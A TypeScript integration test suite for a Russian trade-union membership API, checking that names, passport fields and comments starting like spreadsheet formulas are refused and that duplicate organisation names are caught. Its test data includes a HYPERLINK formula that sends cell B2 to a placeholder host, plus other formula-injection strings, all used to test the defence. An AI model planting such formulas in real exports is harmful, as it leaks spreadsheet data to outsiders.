/**
 * Issue 15 over real HTTP on both databases:
 *  - hole 4: free text that can reach a sheet never starts like a formula (organisation and unit
 *    names, passport texts, a member's text cells, comments, a chair's name) — 422 naming the field
 *    in Russian (400 with the field for the passport form and per row for a pushed list);
 *  - hole 13: two ППО of one territorial organisation cannot share a name (case, ё and spaces aside),
 *    and the union-wide search tells namesakes apart by territorial organisation, ИНН and initials.
 */
import request from 'supertest';
import { auth, startTestApp, type TestApp } from '../../test/support/app';
import { dbVariants } from '../../test/support/db';

const EVIL = '=HYPERLINK("http://example.invalid/?"&B2,"Открыть")';

describe.each(dbVariants())('free text and organisation names (%s)', (variant) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp(variant);
  });
  afterAll(() => t.close());
  const api = () => request(t.app);

  test.each([EVIL, '+1', '-1', '@SUM(A1)', '  =1', '\t=1'])('renaming the ППО to %j: 422 naming «name», nothing changed', async (name) => {
    const school = await t.token('school');
    const res = await api().patch(`/api/v1/organisations/${t.demo.orgIds.school}`).set(auth(school)).send({ name });
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.body.errors).toEqual([{ field: 'name', message: expect.stringMatching(/Excel примет его за формулу/) }]);
    expect((await t.ctx.db.models.Organisation.findByPk(t.demo.orgIds.school))!.name).toBe('ППО МБОУ «Средняя школа № 1»');
  });

  test('creating a unit or an organisation with a formula-like name: 422 naming «name»', async () => {
    const school = await t.token('school');
    const unit = await api().post(`/api/v1/organisations/${t.demo.orgIds.school}/children`).set(auth(school)).send({ kind: 'group', name: '@cmd' });
    expect(unit.status).toBe(422);
    expect(unit.body.errors[0].field).toBe('name');
    const territory = await t.token('territory');
    const ppo = await api().post(`/api/v1/organisations/${t.demo.orgIds.territorial}/children`).set(auth(territory)).send({ kind: 'primary', name: EVIL });
    expect(ppo.status).toBe(422);
    // An ordinary name with a hyphen or a plus inside is fine.
    const fine = await api().post(`/api/v1/organisations/${t.demo.orgIds.school}/children`).set(auth(school)).send({ kind: 'group', name: 'Профгруппа 5-х классов + продлёнка' });
    expect(fine.status).toBe(201);
  });

  test('passport texts: refused naming the field; the phone +7… is accepted', async () => {
    const school = await t.token('school');
    const res = await api().put(`/api/v1/organisations/${t.demo.orgIds.school}/passport`).set(auth(school)).send({ data: { institutionName: EVIL, legalAddress: '-A1', phone: '+7 912 345-67-89' } });
    expect(res.status).toBe(400);
    expect(res.body.errors.map((e: { field: string }) => e.field).sort()).toEqual(['data.institutionName', 'data.legalAddress']);
    const ok = await api().put(`/api/v1/organisations/${t.demo.orgIds.school}/passport`).set(auth(school)).send({ data: { phone: '+7 912 345-67-89' } });
    expect(ok.status).toBe(200);
  });

  test('a member\'s position pushed as a formula: the row is an error naming the column; nothing written', async () => {
    const school = await t.token('school');
    const res = await api().post(`/api/v1/organisations/${t.demo.orgIds.school}/members/sync`).set(auth(school))
      .send({ idempotencyKey: 'formula-position-1', rows: [{ row: 2, values: { surname: 'Формулова', name: 'Анна', birthDate: '01.01.1980', category: 'Работник', position: '=1+1' } }] });
    expect(res.status).toBe(200);
    expect(res.body.rows[0].outcome).toBe('error');
    expect(res.body.rows[0].errors[0]).toMatchObject({ field: 'position', message: expect.stringMatching(/Excel примет его за формулу/) });
  });

  test('a chair\'s full name for a new account and a deregistration comment: 422 naming the field', async () => {
    const territory = await t.token('territory');
    const acc = await api().post(`/api/v1/organisations/${t.demo.orgIds.kindergarten}/accounts`).set(auth(territory)).send({ fullName: '-Иванов Иван' });
    expect(acc.status).toBe(422);
    expect(acc.body.errors[0].field).toBe('fullName');
    const school = await t.token('school');
    const pushed = await api().post(`/api/v1/organisations/${t.demo.orgIds.school}/members/sync`).set(auth(school))
      .send({ idempotencyKey: 'formula-comment-1', rows: [{ row: 2, values: { surname: 'Комментова', name: 'Анна', birthDate: '01.01.1980', category: 'Работник', joinedAt: '01.01.2010' } }] });
    const id = pushed.body.rows[0].id as string;
    const res = await api().post(`/api/v1/members/${id}/deregister`).set(auth(school)).send({ date: '2026-11-01', reason: 'left_job', comment: '@SUM(1)' });
    expect(res.status).toBe(422);
    expect(res.body.errors[0].field).toBe('comment');
    const card = await api().get(`/api/v1/members/${id}`).set(auth(school));
    expect(card.body.deregisteredAt ?? card.body.data?.deregisteredAt ?? null).toBeNull();
  });

  describe('namesakes (hole 13)', () => {
    test('a second ППО of the same territorial organisation cannot take a name already used (case, ё, quotes and spaces aside)', async () => {
      const territory = await t.token('territory');
      for (const name of ['ППО МБОУ «Средняя школа № 1»', 'ппо мбоу  средняя школа № 1', 'ППО МБОУ "Средняя школа № 1"']) {
        const res = await api().post(`/api/v1/organisations/${t.demo.orgIds.territorial}/children`).set(auth(territory)).send({ kind: 'primary', name });
        expect(res.status).toBe(409);
        expect(res.body.errors).toEqual([{ field: 'name', message: expect.stringMatching(/уже есть первичная организация «ППО МБОУ «Средняя школа № 1»»/) }]);
      }
      // The kindergarten's chair cannot rename it to the school's name either.
      const kgRename = await api().patch(`/api/v1/organisations/${t.demo.orgIds.kindergarten}`).set(auth(territory)).send({ name: 'ППО МБОУ «Средняя Школа № 1»' });
      expect(kgRename.status).toBe(409);
      expect(kgRename.body.errors[0].field).toBe('name');
      expect((await t.ctx.db.models.Organisation.findByPk(t.demo.orgIds.kindergarten))!.name).toBe('ППО МБДОУ «Детский сад № 5 «Солнышко»');
    });

    test('in another territorial organisation the same name is allowed; the search tells the two apart by territorial organisation, ИНН and initials only', async () => {
      const admin = await t.token('admin');
      const district = await api().post(`/api/v1/organisations/${t.demo.orgIds.region}/children`).set(auth(admin)).send({ kind: 'territorial', name: 'Заречная районная организация Профсоюза' });
      const twin = await api().post(`/api/v1/organisations/${district.body.id}/children`).set(auth(admin)).send({ kind: 'primary', name: 'ППО МБОУ «Средняя школа № 1»' });
      expect(twin.status).toBe(201);
      const passport = await api().put(`/api/v1/organisations/${twin.body.id}/passport`).set(auth(admin)).send({ data: { inn: '7830002293', chairFullName: 'Петрова Ольга Игоревна' } });
      expect(passport.status).toBe(200);

      const found = await api().get('/api/v1/primary-organisations').query({ q: 'средняя школа 1' }).set(auth(await t.token('kindergarten')));
      expect(found.status).toBe(200);
      const byId = new Map(found.body.map((o: { id: number }) => [o.id, o]));
      expect(byId.get(twin.body.id)).toMatchObject({ name: 'ППО МБОУ «Средняя школа № 1»', territorial: 'Заречная районная организация Профсоюза', inn: '7830002293', chairInitials: 'П. О. И.' });
      // The demo school: its own passport's ИНН and chair («Иванова Мария Сергеевна» → initials only).
      const schoolPassport = await t.ctx.db.models.Passport.findByPk(t.demo.orgIds.school);
      expect(byId.get(t.demo.orgIds.school)).toMatchObject({ territorial: 'Демонстрационная районная организация Профсоюза', inn: schoolPassport?.inn ?? null, chairInitials: 'И. М. С.' });
      expect(JSON.stringify(found.body)).not.toMatch(/Петрова|Ольга|Иванова|Мария/);
    });
  });
});
